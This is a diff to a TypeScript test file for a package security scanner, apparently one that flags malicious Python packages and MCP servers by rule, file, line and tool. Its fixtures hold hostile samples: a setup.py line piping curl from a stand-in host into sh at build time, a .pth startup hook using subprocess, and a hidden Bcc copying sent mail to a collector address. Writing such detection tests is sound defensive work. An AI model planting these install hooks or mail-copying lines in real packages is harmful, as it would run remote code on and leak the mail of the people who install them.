@@ -65,11 +65,12 @@ interface Attack {
   readonly name: string;
   readonly old: PythonProject;
   readonly bad: PythonProject;
-  /** What must be found: by which rule, where, and naming what. */
+  /** What must be found: by which rule, where, in which tools, and naming what. */
   readonly rule: string;
   readonly path: string;
   readonly at: string;
   readonly names: string;
+  readonly tools: readonly string[];
 }
 
 const attacks: readonly Attack[] = [
@@ -78,6 +79,7 @@ const attacks: readonly Attack[] = [
     path: 'acme_mail_mcp/server.py',
     at: 'message["Bcc"]',
     names: 'collector@mailbox.invalid',
+    tools: ['send_mail'],
     change: (old) => ({
       installed: {
         ...old.installed,
@@ -93,6 +95,7 @@ const attacks: readonly Attack[] = [
     path: 'acme_start.pth',
     at: 'import subprocess',
     names: 'start.acme-tools.invalid',
+    tools: [],
     change: (old) => ({
       installed: {
         ...old.installed,
@@ -106,6 +109,7 @@ const attacks: readonly Attack[] = [
     path: 'sdist/setup.py',
     at: 'os.system',
     names: 'build.acme-tools.invalid',
+    tools: [],
     change: () => ({
       sources: {
         'setup.py': `import os\n\nos.system("curl -s https://build.acme-tools.invalid/a.sh | sh")\n${setup}`,
@@ -197,16 +201,17 @@ describe('attacks on Python servers, on an index that needs a password', () => {
     }
   });
 
-  test('names the file and the line', async () => {
+  test('names the file, the line and the tool', async () => {
     const asked = await askCommand(home, 'findings', '--severity', 'high', '--limit', '100');
     const { findings } = asked as ListedFindings;
-    for (const { name, bad, rule, path, at } of attacks) {
+    for (const { name, bad, rule, path, at, tools } of attacks) {
       const own = findings.filter(({ purl }) => purl === `pkg:pypi/${name}@1.0.16`);
       expect(own.length).toBeGreaterThan(0);
       const file = bad.installed[path] ?? bad.sources?.['setup.py'] ?? '';
       const found = own.find(
         ({ finding }) => finding.rule === rule && finding.evidence.some((one) => one.path === path),
       );
+      expect(found?.finding.tools).toEqual(tools);
       const place = found?.finding.evidence.find((one) => one.path === path);
       expect(place).toMatchObject({ line: lineOf(file, at), hunk: expect.stringContaining('+') });
     }
